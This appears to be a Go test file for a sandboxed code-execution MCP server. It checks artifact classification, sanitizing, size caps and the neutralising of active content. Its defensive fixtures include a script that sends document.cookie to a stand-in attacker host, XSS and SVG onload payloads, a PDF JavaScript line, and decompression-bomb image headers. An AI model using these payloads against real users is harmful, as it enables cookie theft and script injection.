package tools

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"

	"github.com/mark3labs/mcp-go/client"
	"github.com/mark3labs/mcp-go/mcp"
	"github.com/mark3labs/mcp-go/server"

	"github.com/airlock-mcp/airlock/sandbox"
)

func encoded(t *testing.T, format string, w, h int) []byte {
	t.Helper()
	img := image.NewPaletted(image.Rect(0, 0, w, h), color.Palette{color.White, color.Black})
	var b bytes.Buffer
	var err error
	switch format {
	case "png":
		err = png.Encode(&b, img)
	case "jpeg":
		err = jpeg.Encode(&b, img, nil)
	case "gif":
		err = gif.Encode(&b, img, nil)
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// hugePNG is a valid PNG signature and header claiming side x side pixels, with no pixels.
func hugePNG(side uint32) []byte {
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], side)
	binary.BigEndian.PutUint32(ihdr[4:], side)
	ihdr[8], ihdr[9] = 8, 2
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	_ = binary.Write(&b, binary.BigEndian, uint32(len(ihdr)))
	b.WriteString("IHDR")
	b.Write(ihdr)
	_ = binary.Write(&b, binary.BigEndian, crc("IHDR", ihdr))
	return b.Bytes()
}

func crc(kind string, data []byte) uint32 {
	// The png package checks the CRC, so a header test needs a right one.
	var table [256]uint32
	for i := range table {
		c := uint32(i)
		for k := 0; k < 8; k++ {
			if c&1 == 1 {
				c = 0xedb88320 ^ (c >> 1)
			} else {
				c >>= 1
			}
		}
		table[i] = c
	}
	c := ^uint32(0)
	for _, b := range append([]byte(kind), data...) {
		c = table[byte(c)^b] ^ (c >> 8)
	}
	return ^c
}

func TestClassify(t *testing.T) {
	// WebP headers (the standard library cannot encode one): lossless 10x10, lossy
	// 100x50, and an extended header claiming a 16000x16000 canvas.
	webp := []byte("RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x09\x40\x02\x00\x00\x00\x00\x00")
	lossy := []byte("RIFF\x1a\x00\x00\x00WEBPVP8 \x0e\x00\x00\x00\x00\x00\x00\x9d\x01\x2a\x64\x00\x32\x00")
	bombWebP := []byte("RIFF\x1a\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00\x7f\x3e\x00\x7f\x3e\x00")
	bigLossless := []byte("RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\xff\xff\xff\x0f\x00\x00\x00\x00")
	tests := []struct {
		name, file string
		data       []byte
		kind       kind
		mime       string
	}{
		{"png", "plot.png", encoded(t, "png", 40, 30), kindImage, "image/png"},
		{"png named txt", "plot.txt", encoded(t, "png", 4, 3), kindImage, "image/png"},
		{"jpeg", "a.jpg", encoded(t, "jpeg", 8, 8), kindImage, "image/jpeg"},
		{"gif", "a.gif", encoded(t, "gif", 8, 8), kindImage, "image/gif"},
		{"webp", "a.webp", webp, kindImage, "image/webp"},
		{"lossy webp", "a.webp", lossy, kindImage, "image/webp"},
		{"webp bomb header", "bomb.webp", bombWebP, kindBlob, "image/webp"},
		{"webp lossless 16384 wide", "big.webp", bigLossless, kindBlob, "image/webp"},
		{"webp without a size", "cut.webp", []byte("RIFF\x1a\x00\x00\x00WEBPVP8L\x00"), kindBlob, "image/webp"},
		{"text named png", "fake.png", []byte("not an image\n"), kindText, "text/plain"},
		{"truncated png", "cut.png", []byte("\x89PNG\r\n\x1a\nIHDR"), kindBlob, "image/png"},
		{"decompression bomb header", "bomb.png", hugePNG(100000), kindBlob, "image/png"},
		{"svg", "chart.svg", []byte(`<?xml version="1.0"?>` + "\n<!-- c -->\n" + `<svg xmlns="http://www.w3.org/2000/svg" width="10"/>`), kindSVG, "image/svg+xml"},
		{"svg content named txt", "chart.txt", []byte(`<svg xmlns="http://www.w3.org/2000/svg"/>`), kindText, "text/plain"},
		{"svg name without svg", "chart.svg", []byte("hello"), kindText, "text/plain"},
		{"svgfoo element", "x.svg", []byte("<svgfoo/>"), kindText, "text/plain"},
		{"csv", "data.csv", []byte("a,b\n1,2\n"), kindText, "text/csv"},
		{"json", "r.json", []byte(`{"a":1}`), kindText, "application/json"},
		{"html", "page", []byte("<html><body>x</body></html>"), kindText, "text/html"},
		{"empty", "empty.txt", nil, kindText, "text/plain"},
		{"nul", "a.txt", []byte("a\x00b"), kindBlob, "application/octet-stream"},
		{"invalid utf8", "a.txt", []byte("caf\xe9 latin-1"), kindBlob, "text/plain"},
		{"pdf", "doc.pdf", []byte("%PDF-1.4\n\xe2\xe3\xcf\xd3\n"), kindBlob, "application/pdf"},
		{"zip", "a.zip", []byte("PK\x03\x04\x14\x00\x00\x00"), kindBlob, "application/zip"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			k, mime := classify(tt.file, tt.data)
			if k != tt.kind || mime != tt.mime {
				t.Errorf("classify = %d %q, want %d %q", k, mime, tt.kind, tt.mime)
			}
		})
	}
}

func art(p string, data []byte) sandbox.Artifact {
	sum := sha256.Sum256(data)
	return sandbox.Artifact{Path: p, Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:]), Data: data}
}

func TestArtifactContent(t *testing.T) {
	pngData := encoded(t, "png", 5, 7)
	ansi := []byte("ok \x1b[2J\x1b]0;pwned\x07done\u202e\n")
	blob := []byte("\x00\x1b[31m\xff")
	arts := []sandbox.Artifact{
		art("plot.png", pngData),
		art("log.txt", ansi),
		art("raw.bin", blob),
		art("empty.txt", nil),
		{Path: "passwd", Skipped: "symlink"},
		{Path: "big.bin", Size: 1 << 30, Skipped: "file too large"},
		art("dir/we ird?#%.txt", []byte("x")),
	}
	arts[3].Data = nil // an empty file comes back without data, as over JSON
	content, list := artifactContent("r1", "out", arts, 16<<20)
	if len(list) != len(arts) {
		t.Fatalf("listed %d of %d", len(list), len(arts))
	}
	if len(content) != 5 {
		t.Fatalf("content has %d items, want 5 (skipped files excluded)", len(content))
	}
	img, ok := content[0].(mcp.ImageContent)
	if !ok || img.MIMEType != "image/png" || img.Data != base64.StdEncoding.EncodeToString(pngData) {
		t.Errorf("content[0] = %#v", content[0])
	}
	res, ok := content[1].(mcp.EmbeddedResource)
	txt, _ := res.Resource.(mcp.TextResourceContents)
	if !ok || txt.URI != "airlock://run/r1/out/log.txt" || txt.MIMEType != "text/plain" || txt.Text != "ok done\n" {
		t.Errorf("content[1] = %#v", content[1])
	}
	if list[1].SHA256 != arts[1].SHA256 {
		t.Error("sanitizing the text changed the listed hash; it must be the file's own")
	}
	res, _ = content[2].(mcp.EmbeddedResource)
	bl, ok := res.Resource.(mcp.BlobResourceContents)
	if got, _ := base64.StdEncoding.DecodeString(bl.Blob); !ok || !bytes.Equal(got, blob) || bl.MIMEType != "application/octet-stream" {
		t.Errorf("blob = %#v (binary data must come back unaltered)", content[2])
	}
	res, _ = content[3].(mcp.EmbeddedResource)
	if e, ok := res.Resource.(mcp.TextResourceContents); !ok || e.Text != "" || !list[3].Returned {
		t.Errorf("empty file: %#v %+v", content[3], list[3])
	}
	res, _ = content[4].(mcp.EmbeddedResource)
	if w, _ := res.Resource.(mcp.TextResourceContents); w.URI != "airlock://run/r1/out/dir/we%20ird%3F%23%25.txt" {
		t.Errorf("uri = %q", w.URI)
	}
	for i, want := range []Artifact{
		{Path: "plot.png", MIMEType: "image/png", Returned: true},
		{Path: "log.txt", MIMEType: "text/plain", Returned: true, URI: "airlock://run/r1/out/log.txt"},
		{Path: "raw.bin", MIMEType: "application/octet-stream", Returned: true, URI: "airlock://run/r1/out/raw.bin"},
		{Path: "empty.txt", MIMEType: "text/plain", Returned: true, URI: "airlock://run/r1/out/empty.txt"},
		{Path: "passwd", Skipped: "symlink"},
		{Path: "big.bin", Skipped: "file too large"},
	} {
		got := list[i]
		if got.Path != want.Path || got.MIMEType != want.MIMEType || got.Returned != want.Returned ||
			got.Skipped != want.Skipped || got.URI != want.URI || got.Size != arts[i].Size || got.SHA256 != arts[i].SHA256 {
			t.Errorf("list[%d] = %+v, want %+v", i, got, want)
		}
	}
}

func TestArtifactPathEscaped(t *testing.T) {
	_, list := artifactContent("r", "out", []sandbox.Artifact{art("\x1b[31mred\u202e.txt", []byte("x"))}, 16<<20)
	if list[0].Path != `\x1b[31mred\u202e.txt` {
		t.Errorf("path = %q", list[0].Path)
	}
}

// TestRunCodeArtifactsOverMCP checks the whole result through a client, with the
// server validating structuredContent against the output schema.
func TestRunCodeArtifactsOverMCP(t *testing.T) {
	pngData := encoded(t, "png", 9, 4)
	var files []sandbox.File
	d := fakeDeps(func(_ context.Context, s sandbox.Spec) (sandbox.Result, error) {
		files = s.Files
		return sandbox.Result{ID: s.ID, Status: sandbox.StatusError, ExitCode: 1, Artifacts: []sandbox.Artifact{
			art("p.png", pngData), art("notes.md", []byte("# hi\n")), {Path: "link", Skipped: "symlink"}}}, nil
	})
	s := server.NewMCPServer("airlock", "test", server.WithToolCapabilities(false), server.WithOutputSchemaValidation())
	Register(s, d)
	c, err := client.NewInProcessClient(s)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if err := c.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Initialize(context.Background(), mcp.InitializeRequest{}); err != nil {
		t.Fatal(err)
	}
	r := call(t, c, "run_code", map[string]any{"code": "x", "files": []map[string]any{
		{"path": "in/a.txt", "content": "hello"},
		{"path": "b.bin", "content": base64.StdEncoding.EncodeToString([]byte{0, 255}), "encoding": "base64"}}})
	if len(files) != 2 || string(files[0].Data) != "hello" || !bytes.Equal(files[1].Data, []byte{0, 255}) {
		t.Fatalf("files reached the sandbox as %+v", files)
	}
	// A failed run still returns what it wrote: partial output helps the model fix it.
	if !r.IsError || len(r.Content) != 3 {
		t.Fatalf("isError=%t content=%d: %s", r.IsError, len(r.Content), text(r))
	}
	img, ok := r.Content[1].(mcp.ImageContent)
	if !ok {
		t.Fatalf("content[1] is %T", r.Content[1])
	}
	raw, _ := base64.StdEncoding.DecodeString(img.Data)
	if cfg, _, err := image.DecodeConfig(bytes.NewReader(raw)); err != nil || cfg.Width != 9 || cfg.Height != 4 {
		t.Errorf("image: %v %+v", err, cfg)
	}
	res, ok := r.Content[2].(mcp.EmbeddedResource)
	if tr, _ := res.Resource.(mcp.TextResourceContents); !ok || tr.Text != "# hi\n" || tr.MIMEType != "text/markdown" {
		t.Errorf("content[2] = %#v", r.Content[2])
	}
	out := structured(t, r)
	if len(out.Artifacts) != 3 || !out.Artifacts[0].Returned || out.Artifacts[2].Skipped != "symlink" {
		t.Errorf("artifacts = %+v", out.Artifacts)
	}
	for _, want := range []string{"--- out/ (3 files, 2 returned) ---", `"p.png" (image/png, `, `"link" (0 bytes, not returned: symlink)`} {
		if !strings.Contains(text(r), want) {
			t.Errorf("text lacks %q:\n%s", want, text(r))
		}
	}
}

func TestRunCodeFileArgumentErrors(t *testing.T) {
	c := startClient(t, fakeDeps(func(context.Context, sandbox.Spec) (sandbox.Result, error) {
		t.Error("the sandbox ran")
		return sandbox.Result{}, nil
	}))
	tests := []struct {
		name  string
		files any
		want  string
	}{
		{"not an array", "a.txt", `argument "files" must be an array of objects`},
		{"path not a string", []any{map[string]any{"path": 1, "content": ""}}, `argument "files.path" must be a string`},
		{"unknown field", []any{map[string]any{"path": "a", "content": "", "mode": 7}}, `unknown argument "mode"`},
		{"dotdot", []any{map[string]any{"path": "../x", "content": ""}}, `files[0] "../x": path contains a .. component`},
		{"bad base64", []any{map[string]any{"path": "x", "content": "@@", "encoding": "base64"}}, `files[0] "x": bad base64`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := call(t, c, "run_code", map[string]any{"code": "x", "files": tt.files})
			if !r.IsError || !strings.Contains(text(r), tt.want) {
				t.Errorf("isError=%t text=%q, want %q", r.IsError, text(r), tt.want)
			}
		})
	}
}

// TestActiveArtifactsInert: a document a client would render (HTML by name or by its
// bytes, XML with an XHTML namespace, HTML with a stray invalid byte, PDF) runs scripts
// and fetches URLs like an SVG would; its content must come back with an inert type.
func TestActiveArtifactsInert(t *testing.T) {
	script := `<html><script>fetch("https://attacker.example/?"+document.cookie)</script></html>`
	arts := []sandbox.Artifact{
		art("page.html", []byte(script)),
		art("page", []byte(script)),
		art("x.xml", []byte(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`)),
		art("bad", []byte(script+"\xff")),
		art("doc.pdf", []byte("%PDF-1.7\n/JS (app.alert(1))\n")),
		art("plot.svg.xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)),
	}
	content, list := artifactContent("r", "out", arts, 16<<20)
	for i, c := range content {
		res, _ := c.(mcp.EmbeddedResource)
		var mime string
		switch r := res.Resource.(type) {
		case mcp.TextResourceContents:
			mime = r.MIMEType
		case mcp.BlobResourceContents:
			mime = r.MIMEType
		default:
			t.Fatalf("%s: content %#v is not a resource", arts[i].Path, c)
		}
		if mime != "text/plain" && mime != "application/octet-stream" {
			t.Errorf("%s (listed %s) returned as %s: a client would render it", arts[i].Path, list[i].MIMEType, mime)
		}
	}
}

// TestJSONLen: jsonLen is what encoding/json writes, HTML-safe, for the characters a
// program can make it escape, and for plain text.
func TestJSONLen(t *testing.T) {
	for _, s := range []string{"", "plain text", "<svg>&amp;</svg>", "a\nb\tc\r\"q\"\\", "\b\f\x01\x1f\x7f",
		"line\u2028para\u2029", "\u20ac\u2027\u202a", strings.Repeat("<>&", 100), "é😀"} {
		b, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		if got, want := jsonLen(s), int64(len(b)-2); got != want {
			t.Errorf("jsonLen(%q) = %d, json.Marshal wrote %d", s, got, want)
		}
	}
}

// TestArtifactWireBudget: the returned content costs at most the artifact cap as
// base64 in the result's JSON. Text of '<' (six bytes each as JSON) within the cap made
// the result six times the cap; it is listed, not returned, and a blob of the same size
// still comes back, as does the text that fits.
func TestArtifactWireBudget(t *testing.T) {
	const maxTotal = 3 << 10
	lt := art("lt.txt", []byte(strings.Repeat("<", 2<<10)))
	bin := art("rand.bin", bytes.Repeat([]byte{0xff, 0}, 1<<10))
	small := art("small.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>`))
	content, list := artifactContent("r", "out", []sandbox.Artifact{lt, bin, small}, maxTotal)
	if list[0].Returned || !strings.HasPrefix(list[0].Skipped, "total size cap reached") || list[0].SHA256 != lt.SHA256 {
		t.Errorf("the '<' text: %+v, want listed with its hash, not returned", list[0])
	}
	if !list[1].Returned || !list[2].Returned || len(content) != 2 {
		t.Errorf("the blob and the small SVG: %+v %+v, %d content items", list[1], list[2], len(content))
	}
	b, err := json.Marshal(content)
	if err != nil {
		t.Fatal(err)
	}
	if int64(len(b)) > wireBudget(maxTotal)+1024 {
		t.Errorf("the content is %d bytes of JSON, the budget %d", len(b), wireBudget(maxTotal))
	}
	if _, list := artifactContent("r", "out", []sandbox.Artifact{lt}, 16<<20); !list[0].Returned {
		t.Errorf("within a larger cap the text comes back: %+v", list[0])
	}
}
